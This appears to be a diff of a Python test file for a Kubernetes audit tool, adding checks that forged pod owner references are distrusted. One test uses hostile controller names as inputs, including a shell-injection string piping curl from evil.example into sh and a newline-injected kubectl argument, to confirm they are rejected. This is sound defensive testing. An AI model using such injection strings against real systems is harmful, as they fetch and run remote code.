@@ -10,10 +10,13 @@ import pytest
 from tests.cluster.fake_api_server import (
     CLUSTERS,
     CONFIG_MAPS,
+    DAEMON_SETS,
+    DEPLOYMENTS,
     JOBS,
     NAMESPACES,
     PODS,
     REPLICA_SETS,
+    STATEFUL_SETS,
     FakeApiServer,
     running_api_server,
 )
@@ -28,6 +31,7 @@ from webhook.injection.snapshot import Snapshot
 P = "ray.seedcore.io/"
 SETTINGS = {"RAY_HOST": "head", "RAY_NAMESPACE": "lab"}
 FIRST = Snapshot(webhook_namespace=OWN)
+RESTARTED = {"Deployment": DEPLOYMENTS, "StatefulSet": STATEFUL_SETS, "DaemonSet": DAEMON_SETS}
 
 
 @pytest.fixture
@@ -53,6 +57,13 @@ def namespace(fake: FakeApiServer, name: str, **labels: str) -> None:
 
 def owner(kind: str, name: str, version: str = "apps/v1") -> dict[str, Any]:
     return {"apiVersion": version, "kind": kind, "name": name, "uid": f"{kind}-{name}", "controller": True}
+
+
+def exists(fake: FakeApiServer, controller: dict[str, Any] | None) -> None:
+    """Put what restarts there, too, if `controller` is one."""
+    if controller and controller["kind"] in RESTARTED:
+        named = {"namespace": "apps", "name": controller["name"], "uid": controller["uid"]}
+        fake.add(RESTARTED[controller["kind"]], {"metadata": named})
 
 
 def add(
@@ -242,12 +253,45 @@ def test_pods_are_grouped_by_the_workload_that_people_know(fake: FakeApiServer, 
 def test_each_kind_of_workload_is_mended_in_its_own_way(
     fake: FakeApiServer, url: str, controller: dict[str, Any] | None, restart: str | None, text: str
 ) -> None:
+    exists(fake, controller)
     add(fake, template("client"), controller=controller)
     mend = only(audited(url)).mend
 
     assert mend is not None
     assert mend.restart == restart
     assert text in mend.text
+
+
+@pytest.mark.parametrize("kind", [*RESTARTED, "RayCluster"])
+@pytest.mark.parametrize("forged", [{"uid": "1-2"}, {"name": "other"}, {}], ids=["uid", "name", "namespace"])
+def test_what_a_pod_says_of_its_controller_is_not_believed(
+    fake: FakeApiServer, url: str, kind: str, forged: dict[str, str]
+) -> None:
+    """A restart of somebody else's workload is what a forger would gain."""
+    fake.serve_kind(CLUSTERS)
+    controller = owner(kind, "api", "ray.io/v1" if kind == "RayCluster" else "apps/v1")
+    named = {"namespace": "apps" if forged else "other", "name": "api", "uid": controller["uid"]}
+    fake.add({**RESTARTED, "RayCluster": CLUSTERS}[kind], {"metadata": named})
+    add(fake, template("client"), controller={**controller, **forged})
+    mend = only(audited(url)).mend
+
+    assert mend is not None
+    assert (mend.restart, mend.command) == (None, None)
+    assert "find out who made these pods" in mend.text
+
+
+@pytest.mark.parametrize("name", ["a\ndeployment/b --namespace=other", "x; curl -s evil.example | sh #", "", "A"])
+def test_a_controller_whose_name_no_object_can_have_is_none(fake: FakeApiServer, url: str, name: str) -> None:
+    add(fake, template("client"), controller=owner("Deployment", name, "apps/v0"))
+
+    assert told(audited(url)) == {"Pod apps/one": [("missed", ["one"])]}
+
+
+def test_a_kind_that_the_cluster_does_not_know_is_no_failure(fake: FakeApiServer, url: str) -> None:
+    """Anybody may name it as the owner of a pod, which must not end the audit of all others."""
+    add(fake, template("client"), controller=owner("RayCluster", "train", "ray.io/v1"))
+
+    assert told(audited(url)) == {"RayCluster apps/train": [("missed", ["one"])]}
 
 
 @pytest.mark.parametrize(
@@ -298,19 +342,21 @@ def test_one_namespace_is_asked_for_by_its_paths_alone(fake: FakeApiServer, url:
     namespace(fake, "other")
     add(fake, template("client"), "mine", controller=owner("ReplicaSet", "r"))
     add(fake, template("client"), "theirs", place="other")
+    add(fake, template("client"), "set", controller=owner("StatefulSet", "s"))
     found = audited(url, "apps")
 
-    assert told(found) == {"ReplicaSet apps/r": [("missed", ["mine"])]}
+    assert told(found) == {"ReplicaSet apps/r": [("missed", ["mine"])], "StatefulSet apps/s": [("missed", ["set"])]}
     paths = {request.path for request in fake.requests}
-    assert {"/api/v1/namespaces/apps/pods", "/apis/apps/v1/namespaces/apps/replicasets"} <= paths
-    assert paths.isdisjoint({PODS, REPLICA_SETS, JOBS})
+    own = "/apis/apps/v1/namespaces/apps"
+    assert {"/api/v1/namespaces/apps/pods", f"{own}/replicasets", f"{own}/statefulsets"} <= paths
+    assert paths.isdisjoint({PODS, REPLICA_SETS, JOBS, *RESTARTED.values()})
 
 
 def test_owners_are_listed_only_where_a_finding_needs_them(fake: FakeApiServer, url: str) -> None:
     add(fake, treated(template("client")), controller=owner("ReplicaSet", "r"))
     audited(url)
 
-    assert {request.path for request in fake.requests}.isdisjoint({REPLICA_SETS, JOBS})
+    assert {request.path for request in fake.requests}.isdisjoint({REPLICA_SETS, JOBS, *RESTARTED.values()})
 
 
 def test_everything_is_read_by_pages(fake: FakeApiServer, url: str) -> None:
